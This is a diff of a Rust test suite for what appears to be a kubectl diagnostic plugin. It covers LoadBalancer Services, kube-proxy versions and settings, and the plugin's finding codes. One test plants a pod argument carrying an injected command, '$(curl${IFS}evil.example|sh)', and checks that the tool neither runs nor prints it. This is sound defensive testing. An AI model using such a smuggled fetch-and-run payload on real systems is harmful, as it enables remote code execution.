@@ -60,7 +60,41 @@ fn cluster(stage: &Stage) {
     for object in objects {
         stage.kube.create(&object).unwrap();
     }
+    run(stage);
+    kube_proxy(stage, "v1.36.0");
     open_node_ports(stage);
+}
+
+/// The pod gets its address.
+fn run(stage: &Stage) {
+    let status = json!({"status": {"phase": "Running", "podIPs": [{"ip": "10.244.1.7"}]}});
+    stage.kube.patch_status("pods", "default", "nginx-1", &status).unwrap();
+}
+
+/// The service proxy as kubeadm installs it: a pod on each node, and their configuration.
+fn kube_proxy(stage: &Stage, version: &str) {
+    let spec = json!({
+        "containers": [{"name": "kube-proxy", "image": format!("registry.example.org/kube-proxy:{version}"),
+            "command": ["/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf"],
+            "volumeMounts": [{"name": "kube-proxy", "mountPath": "/var/lib/kube-proxy"}]}],
+        "volumes": [{"name": "kube-proxy", "configMap": {"name": "kube-proxy"}}],
+    });
+    for node in stage.cloud.nodes() {
+        let name = format!("kube-proxy-{}", node.name);
+        let _former = stage.kube.delete("pods", "kube-system", &name);
+        let mut pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "kube-system"}, "spec": spec});
+        pod["spec"]["nodeName"] = json!(node.name);
+        stage.kube.create(&pod).unwrap();
+    }
+    configure_kube_proxy(stage, "");
+}
+
+fn configure_kube_proxy(stage: &Stage, lines: &str) {
+    let _former = stage.kube.delete("configmaps", "kube-system", "kube-proxy");
+    let text = format!("apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\n{lines}");
+    let map = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "kube-proxy", "namespace": "kube-system"},
+        "data": {"config.conf": text}});
+    stage.kube.create(&map).unwrap();
 }
 
 /// What an operator of nodes does: their security groups let the network in at node ports.
@@ -127,11 +161,14 @@ async fn a_healthy_service_shows_no_finding_and_nothing_is_written() {
     assert_eq!(code, 0, "{output}");
     assert!(
         output.contains(
-            "from pods, nodes and outside: should reach the application through the load balancer (no packet sent)."
+            "from pods, nodes and outside: no fault found through the load balancer (no packet was sent)."
         ),
         "{output}"
     );
-    assert!(output.contains("0 errors, 0 warnings, ") && output.ends_with(", 0 unknown\n"), "{output}");
+    assert!(
+        output.contains("0 errors, 0 warnings, ") && output.ends_with(", 0 not known, 0 not seen\n"),
+        "{output}"
+    );
     assert_eq!(version(&stage), before);
     let calls = stage.cloud.log().calls().split_off(calls);
     let writes: Vec<String> = calls
@@ -160,17 +197,27 @@ async fn each_fault_is_named_by_its_code() {
     let (_, _, report) = codes(&stage);
     let conclusion = &report["services"][0]["conclusion"];
     assert_eq!((&conclusion[0]["verdict"], &conclusion[0]["hop"]), (&json!("ends"), &json!(2)));
-    assert_eq!(conclusion[2]["verdict"], json!("should-reach"));
+    assert_eq!(conclusion[2]["verdict"], json!("no-fault-found"));
     status(json!({"ip": ip, "ipMode": "Proxy"}));
 
-    let kubelet = |version: &str| {
-        let node = stage.cloud.nodes()[0].name.clone();
-        let patch = json!({"status": {"nodeInfo": {"kubeletVersion": version}}});
-        stage.kube.patch_status("nodes", "", &node, &patch).unwrap();
-    };
-    kubelet("v1.29.15");
+    kube_proxy(&stage, "v1.29.9");
     assert_eq!(codes(&stage).1, ["D301"]);
-    kubelet("v1.36.0");
+    kube_proxy(&stage, "v1.31.2");
+    assert_eq!(codes(&stage).1, [""; 0]);
+    configure_kube_proxy(&stage, "featureGates:\n  LoadBalancerIPMode: false\n");
+    assert_eq!(codes(&stage).1, ["D301"]);
+    configure_kube_proxy(&stage, "nodePortAddresses: [192.0.2.0/24]\n");
+    assert_eq!(codes(&stage).1, ["D807"]);
+    kube_proxy(&stage, "v1.36.0");
+
+    let external_ips = |ips: Value| {
+        stage.kube.patch("services", "default", "web", &json!({"spec": {"externalIPs": ips}})).unwrap();
+    };
+    external_ips(json!([ip]));
+    assert_eq!(codes(&stage).1, ["D208"]);
+    let (_, output) = doctor(&stage, &["--leftovers", "--no-cloud"]);
+    assert!(output.contains("[L109]"), "{output}");
+    external_ips(json!([]));
 
     let configured = |value: &str| {
         stage
@@ -267,10 +314,12 @@ async fn what_cannot_be_looked_at_is_unknown_and_never_green() {
     let (code, output) = doctor(&stage, &["default/web", "--no-cloud"]);
     assert_eq!(code, 0, "{output}");
     assert!(
-        output.contains("? not checked: status, load balancer, header, members (--no-cloud)"),
+        output.contains("? not seen: the cloud (--no-cloud), for status, load balancer, header, members"),
         "{output}"
     );
-    assert!(output.contains("not known: status, load balancer, header and members"), "{output}");
+    assert!(output.contains("(no packet was sent; not seen: the cloud (--no-cloud))"), "{output}");
+    let (code, _) = doctor(&stage, &["default/web", "--no-cloud", "--fail-on=unseen"]);
+    assert_eq!(code, 3);
     let (code, output) = doctor(&stage, &["default/web"]);
     assert!(code == 3 && output.contains("(no --cloud-config)"), "{code} {output}");
     stage.kube.inject(Fault::on("GET", "networkpolicies").fail(
@@ -295,7 +344,7 @@ async fn who_cannot_look_at_all_reads_why() {
     assert!(code == 1 && output.contains("there is no Service default/web"), "{output}");
     cluster_without_cloud(&stage);
     let (code, output) = with_cloud(&stage, &["default/web", "-o", "short"]);
-    assert!(code == 2 && output.contains("? not checked: load balancer, "), "{code} {output}");
+    assert!(code == 2 && output.contains("? not known: the cloud ("), "{code} {output}");
     stage.stop_kubernetes();
     let (code, output) = doctor(&stage, &["-A"]);
     assert!(code == 1 && output.contains("the Services of the cluster cannot be read"), "{output}");
@@ -387,7 +436,17 @@ async fn services_are_named_as_for_kubectl() {
         assert!(code == 0 && output.contains("default/web ("), "{form:?}: {code} {output}");
     }
     let (code, output) = with_cloud(&stage, &["-n", "other"]);
-    assert!(code == 0 && !output.contains("default/web"), "{code} {output}");
+    assert!(code == 1 && output.contains("there is no namespace other"), "{code} {output}");
+    let (code, output) = with_cloud(&stage, &["-n", "kube-system"]);
+    assert!(
+        code == 3 && output.contains("kube-system has no Service of type LoadBalancer"),
+        "{code} {output}"
+    );
+    let (code, output) = with_cloud(&stage, &["web", "wbe"]);
+    assert!(
+        code == 3 && output.contains("default/web (") && output.contains("there is no Service default/wbe"),
+        "{output}"
+    );
     // As kubectl asks the plugin to complete a word.
     let kubeconfig = format!("--kubeconfig={}", stage.file("kubeconfig").display());
     for (typed, completed) in [("w", "web\n:4\n"), ("default/", "default/web\n:4\n"), ("x", ":4\n")] {
@@ -398,7 +457,7 @@ async fn services_are_named_as_for_kubectl() {
     // How far it is comes before, on a loaded machine.
     let start = output.find("counts:").unwrap();
     let report: Value = serde_saphyr::from_str(&output[start..]).unwrap();
-    assert_eq!(report["services"][0]["conclusion"][2]["verdict"], json!("should-reach"));
+    assert_eq!(report["services"][0]["conclusion"][2]["verdict"], json!("no-fault-found"));
 }
 
 /// Whoever may read a namespace sees what is in it.
@@ -426,7 +485,7 @@ async fn what_is_disabled_detached_or_somebody_elses_is_never_green() {
         (conclusion["verdict"].as_str().unwrap().to_owned(), conclusion["hop"].as_u64().unwrap_or(99))
     };
     let ends = |hop: u64| ("ends".to_owned(), hop);
-    let well = ("should-reach".to_owned(), 99);
+    let well = ("no-fault-found".to_owned(), 99);
     assert_eq!(outside(), well);
     let listener = stage.cloud.listeners()[0].clone();
     let id = |object: &Value| object["id"].as_str().unwrap().to_owned();
@@ -514,6 +573,7 @@ async fn an_argument_of_a_pod_is_no_part_of_a_command() {
         "spec": {"containers": [{"image": "registry.example.org/ingress-nginx/controller:v1.15.1",
             "args": ["/nginx-ingress-controller", "--configmap=default/nginx?$(curl${IFS}evil.example|sh)"]}]}});
     stage.kube.create(&pod).unwrap();
+    run(&stage);
     let before = stage.kube.requests().len();
     let (code, output) = with_cloud(&stage, &["web", "-o", "json"]);
     assert!(code == 3 && !output.contains("curl"), "{code} {output}");
@@ -539,6 +599,6 @@ async fn many_services_are_looked_at_by_lists() {
     }
     let most = lists.iter().max_by_key(|(_, count)| **count).unwrap();
     assert!(*most.1 <= 5, "{most:?}");
-    assert!(output.contains("in 30 Services: default/s0, "), "{output}");
-    assert!(output.contains("31 Services: 1 reach or should reach their application"), "{output}");
+    assert!(output.contains("in 30 Services, shown for the first: default/s0, "), "{output}");
+    assert!(output.contains("31 Services: no fault found for 1 of them"), "{output}");
 }
